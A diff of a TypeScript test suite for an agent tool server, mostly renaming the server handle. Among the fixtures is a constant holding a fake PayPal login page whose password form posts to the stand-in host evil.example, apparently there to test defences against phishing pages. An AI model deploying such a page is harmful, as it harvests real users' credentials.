@@ -13,23 +13,23 @@ import { getDocument, listOperations } from '../../testing/openapi/document.ts'
 import { toolsOf } from './tools.ts'
 import { listTools as listShownTools } from './toolset.ts'
 
-const ctx = await startTestServer()
-const ann = await ctx.agent('ann')
-const tools = await listTools(ctx)
-afterAll(() => ctx.close())
+const t = await startTestServer()
+const ann = await t.agent('ann')
+const tools = await listTools(t)
+afterAll(() => t.close())
 
 const page = '<!doctype html><title>Tide</title><h1>Tide</h1>'
 
 describe('the list', () => {
   test('has names and summaries of the description, at most 35 tools, in a stable order', async () => {
     const operations = new Map(
-      listOperations(await getDocument(ctx)).map((operation) => [operation.operationId, operation]),
+      listOperations(await getDocument(t)).map((operation) => [operation.operationId, operation]),
     )
     for (const { name, description } of tools) {
       expect(description).toStartWith(operations.get(name)?.summary ?? 'not of the description')
     }
     expect(tools.length).toBeLessThanOrEqual(35)
-    expect(await listTools(ctx)).toEqual(tools)
+    expect(await listTools(t)).toEqual(tools)
     const names = tools.map(({ name }) => name)
     expect(new Set(names).size).toBe(names.length)
     for (const file of ['export_app', 'get_asset', 'look_at_asset', 'watch_job', 'get_openapi']) {
@@ -38,7 +38,7 @@ describe('the list', () => {
   })
 
   test('has a core of 11 tools', async () => {
-    const names = (await listTools(ctx, '?tools=core')).map(({ name }) => name)
+    const names = (await listTools(t, '?tools=core')).map(({ name }) => name)
     expect(names).toEqual([
       'start',
       'new_agent',
@@ -79,16 +79,16 @@ describe('the list', () => {
   })
 
   test('lists one area, or all tools for an unknown area', async () => {
-    const names = (await listTools(ctx, '?tools=assets')).map(({ name }) => name)
+    const names = (await listTools(t, '?tools=assets')).map(({ name }) => name)
     expect(names).toContain('put_asset')
     expect(names).not.toContain('get_me')
-    expect(await listTools(ctx, '?tools=nothing')).toEqual(tools)
+    expect(await listTools(t, '?tools=nothing')).toEqual(tools)
   })
 
   test('has all operations of agents except streams and files, as the docs say', async () => {
-    const operations = listOperations(await getDocument(ctx))
+    const operations = listOperations(await getDocument(t))
     const areas = new Set(operations.map(({ tags }) => String(tags[0]).toLowerCase()))
-    const lists = [...areas].map((area) => listTools(ctx, `?tools=${area.replaceAll(' ', '-')}`))
+    const lists = [...areas].map((area) => listTools(t, `?tools=${area.replaceAll(' ', '-')}`))
     const named = new Set((await Promise.all(lists)).flat().map(({ name }) => name))
     const others = operations.filter(
       ({ operationId, security }) =>
@@ -103,8 +103,8 @@ describe('the list', () => {
         undefined,
       ])
     }
-    const docs = await ctx.request('GET', '/docs', { headers: { accept: 'text/html' } })
-    for (const { body } of [docs, await ctx.call('GET', '/')]) {
+    const docs = await t.request('GET', '/docs', { headers: { accept: 'text/html' } })
+    for (const { body } of [docs, await t.call('GET', '/')]) {
       const text = typeof body === 'string' ? body : JSON.stringify(body)
       expect(text).toContain('except those that return a stream or a file')
     }
@@ -181,7 +181,7 @@ describe('a call', () => {
       ['list_versions', `/apps/${id}/versions`],
     ] as const) {
       const { body } = await ann.call('GET', path)
-      const { structuredContent, content, isError } = await callTool(ctx, name, {
+      const { structuredContent, content, isError } = await callTool(t, name, {
         id,
         key: ann.key,
       })
@@ -189,7 +189,7 @@ describe('a call', () => {
       expect(JSON.parse(content[0]?.text ?? '')).toEqual(body)
       expect(isError).toBeUndefined()
     }
-    const { structuredContent, content } = await callTool(ctx, 'get_html', { id, key: ann.key })
+    const { structuredContent, content } = await callTool(t, 'get_html', { id, key: ann.key })
     expect(structuredContent).toEqual({ html: page })
     expect(content).toEqual([{ type: 'text', text: page }])
   })
@@ -204,7 +204,7 @@ describe('a call', () => {
       const known = Object.entries(args).filter(([field]) => properties.includes(field))
       if (!annotations['readOnlyHint'] && name !== 'publish_version') continue
       if (!required.every((field) => known.some(([own]) => own === field))) continue
-      const { structuredContent } = await callTool(ctx, name, Object.fromEntries(known))
+      const { structuredContent } = await callTool(t, name, Object.fromEntries(known))
       const validate = ajv.compile(outputSchema)
       expect([name, validate(structuredContent), validate.errors]).toEqual([name, true, null])
     }
@@ -212,10 +212,10 @@ describe('a call', () => {
 
   test('reads its key from the argument, then the header, and nowhere else', async () => {
     const me = async (...[args, message]: [unknown?, Parameters<typeof send>[3]?]) => {
-      const { structuredContent } = await callTool(ctx, 'get_me', args, message)
+      const { structuredContent } = await callTool(t, 'get_me', args, message)
       return structuredContent['handle'] ?? structuredContent['code']
     }
-    const ben = await ctx.agent('ben')
+    const ben = await t.agent('ben')
     expect(await me({ key: ann.key })).toBe(ann.handle)
     expect(await me({}, { key: ann.key })).toBe(ann.handle)
     expect(await me({}, { headers: { 'x-api-key': ann.key } })).toBe(ann.handle)
@@ -228,7 +228,7 @@ describe('a call', () => {
 
   test('accepts a flag as a boolean', async () => {
     for (const unread of [true, false]) {
-      const { structuredContent } = await callTool(ctx, 'list_notes', { unread, key: ann.key })
+      const { structuredContent } = await callTool(t, 'list_notes', { unread, key: ann.key })
       expect(structuredContent).toMatchObject({ notes: [], next: null })
     }
   })
@@ -245,7 +245,7 @@ describe('a call', () => {
     ] as const
     for (const [name, args, method, path, body] of cases) {
       const rest = await ann.call(method, path, body)
-      const { isError, structuredContent } = await callTool(ctx, name, args, { key: ann.key })
+      const { isError, structuredContent } = await callTool(t, name, args, { key: ann.key })
       expect([name, isError, structuredContent['code']]).toEqual([name, true, rest.code ?? ''])
       if (rest.code !== 'bad_request') expect(structuredContent).toEqual(Object(rest.body))
     }
@@ -253,7 +253,7 @@ describe('a call', () => {
 
   test('publishes a page of the maximum size, and a larger one fails', async () => {
     const filler = (bytes: number) => page + ' '.repeat(bytes - page.length)
-    const publish = (html: string) => callTool(ctx, 'publish_app', { html, key: ann.key })
+    const publish = (html: string) => callTool(t, 'publish_app', { html, key: ann.key })
     expect((await publish(filler(4 * 1_048_576))).isError).toBeUndefined()
     expect((await publish(filler(4 * 1_048_576 + 1))).structuredContent['code']).toBe('too_large')
   })
@@ -275,7 +275,7 @@ const steal =
   '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'
 
 test('both protocol eras work at one URL', async () => {
-  const { message } = await post(ctx, {
+  const { message } = await post(t, {
     jsonrpc: '2.0',
     id: 1,
     method: 'initialize',
@@ -288,7 +288,7 @@ test('both protocol eras work at one URL', async () => {
   expect(message).toMatchObject({
     result: { protocolVersion: '2024-11-05', serverInfo: { name: 'berth' } },
   })
-  const { body } = await send(ctx, 'server/discover')
+  const { body } = await send(t, 'server/discover')
   expect(body).toMatchObject({
     result: { supportedVersions: ['2026-07-28'], instructions: expect.stringContaining('start') },
   })
